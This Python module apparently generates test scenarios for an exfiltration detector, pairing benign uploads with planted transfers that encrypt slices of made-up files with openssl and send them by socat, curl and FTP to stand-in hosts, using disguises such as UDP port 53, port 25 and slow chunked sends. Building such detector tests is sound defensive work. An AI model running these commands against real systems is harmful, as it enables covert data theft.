"""What the test half holds besides ordinary life: hard negatives and planted transfers.

The planted transfers move made-up data, encrypted by ``openssl enc`` under a throwaway
key, from one namespace of the lab to another with socat and curl. They exist to
measure a detector and are exactly as plain as that.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from sample_lab.schedule import DAY, MONDAY, Session
from sample_lab.world import HOST

if TYPE_CHECKING:
    import random

    from sample_lab.servers import Servers

EXFIL = "exfil"
HARD = "hard-negative"
TEST_MONDAY = MONDAY + 7 * DAY
# A fixed key, printed here: whoever wants to look inside the sample can.
KEY = "".join(f"{value:02x}" for value in range(32))

# Names that nobody asks for before the test half.
NEW_NAMES = {
    "vpn.awayhome.example": "198.51.100.220",
    "share.newpartner.example": "203.0.113.221",
    "eu2.coldvault.example": "198.18.11.222",
    "upload.bigtransfer.example": "198.18.11.223",
    "host7.freshvps.example": "203.0.113.224",
    "jump.tinycloud.example": "198.18.11.225",
    "n204.quickweb.example": "198.18.9.204",
    "inbox.pastedrop.example": "192.0.2.206",
    "ftp.swiftstore.example": "203.0.113.207",
}
NEW_SHELLS = (
    "eu2.coldvault.example", "host7.freshvps.example", "jump.tinycloud.example",
)  # fmt: skip
# Plain receivers of the raw transfers: they read and forget.
SINKS = [
    "TCP4-LISTEN:41873,bind=203.0.113.200,fork,reuseaddr",
    "TCP4-LISTEN:443,bind=198.51.100.201,fork,reuseaddr",
    "UDP4-RECV:53,bind=192.0.2.202,rcvbuf=4000000",
    "UDP4-RECV:123,bind=203.0.113.203,rcvbuf=4000000",
    "TCP4-LISTEN:8443,bind=198.51.100.208,fork,reuseaddr",
    "TCP4-LISTEN:49777,bind=203.0.113.209,fork,reuseaddr",
    "TCP4-LISTEN:25,bind=192.0.2.210,fork,reuseaddr",
]


@dataclass
class Scenario:
    """A hard negative or a planted transfer, as one or more sessions.

    ``n_bytes`` is the data handed to the client before encoding, over all sessions.
    """

    name: str
    label: str
    host: str
    to: str
    carrier: str
    cipher: str
    n_bytes: int
    sessions: list[Session] = field(default_factory=list)


def _at(day: int, hour: float) -> float:
    return TEST_MONDAY + day * DAY + hour * 3600


def _sealed(source: str, offset: int, n_bytes: int, cipher: str) -> str:
    """Return the command that encrypts a slice of a corpus file."""
    bits = 48 if cipher.startswith("des-ede3") else 64
    iv = 8 if cipher.startswith("des-ede3") else 16
    return (
        f"tail -c +{offset + 1} $C/{source} | head -c {n_bytes}"
        f" | openssl enc -{cipher} -K {KEY[:bits]} -iv $(openssl rand -hex {iv})"
    )


def scenarios(rng: random.Random, servers: Servers) -> list[Scenario]:
    """Return every scenario of the test half with its sessions."""
    return [*_hard_negatives(servers), *_transfers(rng)]


def _one(scenario: Scenario, when: float, script: str) -> Scenario:
    scenario.sessions.append(
        Session(
            when, HOST[scenario.host], scenario.to, scenario.carrier, script,
            scenario.name, scenario.label,
        )
    )  # fmt: skip
    return scenario


def _transfers(rng: random.Random) -> list[Scenario]:
    out: list[Scenario] = []

    def plant(
        name: str, host: str, to: str, carrier: str, cipher: str, n_bytes: int
    ) -> Scenario:
        out.append(Scenario(name, EXFIL, host, to, carrier, cipher, n_bytes))
        return out[-1]

    csv, album = "customers.csv", "album.zip"

    s = plant("ctr-tcp-high-port", "sales3", "203.0.113.200", "tcp/41873",
              "aes-256-ctr", 900_000)  # fmt: skip
    send = "socat -u - TCP4:203.0.113.200:41873"
    _one(s, _at(0, 15.62), f"{_sealed(csv, 0, s.n_bytes, s.cipher)} | {send}")

    s = plant(
        "chacha-tcp-443", "dev2", "198.51.100.201", "tcp/443", "chacha20", 600_000
    )
    send = "socat -u - TCP4:198.51.100.201:443"
    _one(s, _at(1, 11.21), f"{_sealed(album, 0, s.n_bytes, s.cipher)} | {send}")

    s = plant("cbc-udp-53", "sales1", "192.0.2.202", "udp/53", "aes-256-cbc", 180_000)
    send = "socat -u -b 1200 - UDP4:192.0.2.202:53"
    _one(s, _at(0, 12.8), f"{_sealed(csv, 900_000, s.n_bytes, s.cipher)} | {send}")

    s = plant("ctr-udp-123", "finance1", "203.0.113.203", "udp/123", "aes-128-ctr",
              120_000)  # fmt: skip
    send = "socat -u -b 468 - UDP4:203.0.113.203:123"
    sealed = _sealed(album, 10**6, s.n_bytes, s.cipher).replace(KEY, KEY[:32])
    _one(s, _at(1, 16.4), f"{sealed} | {send}")

    s = plant("cbc-http-post", "finance2", "198.18.9.204", "http/80", "aes-256-cbc",
              750_000)  # fmt: skip
    send = (
        "curl -sS -H 'Content-Type: application/octet-stream' -H Expect:"
        " --data-binary @- http://198.18.9.204/upload"
    )
    _one(s, _at(0, 17.1), f"{_sealed(csv, 10**6, s.n_bytes, s.cipher)} | {send}")

    s = plant("base64-http-post", "sales2", "inbox.pastedrop.example", "http/80",
              "aes-256-cbc passphrase, base64", 300_000)  # fmt: skip
    sealed = (
        f"head -c {s.n_bytes} $C/album.zip | openssl enc -aes-256-cbc -pbkdf2"
        " -pass pass:throwaway -base64 -A"
    )
    send = (
        "curl -sS -H 'Content-Type: text/plain' -H Expect: --data-binary @-"
        " http://inbox.pastedrop.example/api/paste"
    )
    _one(s, _at(1, 9.85), f"{sealed} | {send}")

    s = plant("cbc-ftp-stor", "dev3", "ftp.swiftstore.example", "ftp/21 passive",
              "aes-256-cbc", 1_200_000)  # fmt: skip
    send = (
        "curl -sS --disable-eprt -u guest:x -T - ftp://ftp.swiftstore.example/in/a.bin"
    )
    _one(s, _at(1, 14.33), f"{_sealed(album, 0, s.n_bytes, s.cipher)} | {send}")

    s = plant("split-tcp-8443", "sales4", "198.51.100.208", "tcp/8443", "chacha20",
              40 * 22_000)  # fmt: skip
    when = _at(0, 9.3)
    for piece in range(40):
        send = "socat -u - TCP4:198.51.100.208:8443"
        _one(s, when, f"{_sealed(csv, piece * 22_000, 22_000, s.cipher)} | {send}")
        when += rng.uniform(200, 900)

    s = plant("low-and-slow", "dev1", "203.0.113.209", "tcp/49777", "camellia-256-ctr",
              24 * 20_000)  # fmt: skip
    when = _at(0, 0.7)
    for piece in range(24):
        send = "socat -u - TCP4:203.0.113.209:49777"
        _one(s, when, f"{_sealed(album, piece * 20_000, 20_000, s.cipher)} | {send}")
        when += rng.uniform(5400, 8600)

    s = plant("3des-tcp-25", "fileserver", "192.0.2.210", "tcp/25", "des-ede3-cbc",
              320_000)  # fmt: skip
    send = "socat -u - TCP4:192.0.2.210:25"
    _one(s, _at(1, 3.4), f"{_sealed(csv, 0, s.n_bytes, s.cipher)} | {send}")
    return out


def _hard_negatives(servers: Servers) -> list[Scenario]:
    out: list[Scenario] = []

    def honest(
        name: str, host: str, to: str, carrier: str, n_bytes: int, when: float, run: str
    ) -> None:
        scenario = Scenario(name, HARD, host, to, carrier, "", n_bytes)
        out.append(_one(scenario, when, run))

    vpn = "vpn.awayhome.example"
    client = " ".join(servers.vpn("client", vpn))
    honest(
        "new-vpn", "sales2", vpn, "openvpn/1194", 0, _at(0, 19.4),
        f"{client} >$W/vpn.log & tunnel=$!;"
        " for i in $(seq 80); do sleep 0.05;"
        " ping -q -c 1 -W 1 10.99.0.1 >/dev/null 2>&1 && break; done;"
        " curl -sS -m 9 -T $C/nightly/share11.zip http://10.99.0.1:8088/dav/a &&"
        " curl -sS -m 9 -T $C/nightly/share10.zip http://10.99.0.1:8088/dav/b ||"
        " exit 1; kill $tunnel; wait $tunnel; true",
    )  # fmt: skip
    to = "share.newpartner.example"
    honest(
        "zip-post-new-place", "finance1", to, "http/80", 0, _at(0, 11.05),
        f"curl -sS -F report=@$C/nightly/share9.zip -F topic=audit http://{to}/upload",
    )  # fmt: skip
    to = "eu2.coldvault.example"
    honest(
        "first-backup", "dev2", to, "ssh/22", 0, _at(0, 20.6),
        f"rsync -a $C/nightly $C/album.zip {to}:$W/sink/first/",
    )  # fmt: skip
    to = "upload.bigtransfer.example"
    honest(
        "large-https-upload", "sales4", to, "https/443", 0, _at(1, 10.4),
        f"cat $C/album.zip $C/nightly/share8.zip | curl -sS -T - https://{to}/dav/a",
    )  # fmt: skip
    to = "host7.freshvps.example"
    honest(
        "scp-new-host", "dev3", to, "ssh/22", 0, _at(1, 13.7),
        f"scp -q $SSH $C/nightly/share10.zip $C/nightly/share11.zip {to}:$W/sink/",
    )  # fmt: skip
    to = "jump.tinycloud.example"
    honest(
        "ssh-tunnel-new-host", "dev4", to, "ssh/22", 0, _at(1, 17.2),
        f"ssh $SSH -N -D 127.0.0.1:1080 {to} & tunnel=$!; sleep 0.4;"
        " curl -sS -x socks5://127.0.0.1:1080 -T $C/nightly/share7.zip"
        " http://drive.mailhost.example/dav/a || exit 1;"
        " kill $tunnel; wait $tunnel; true",
    )  # fmt: skip
    return out
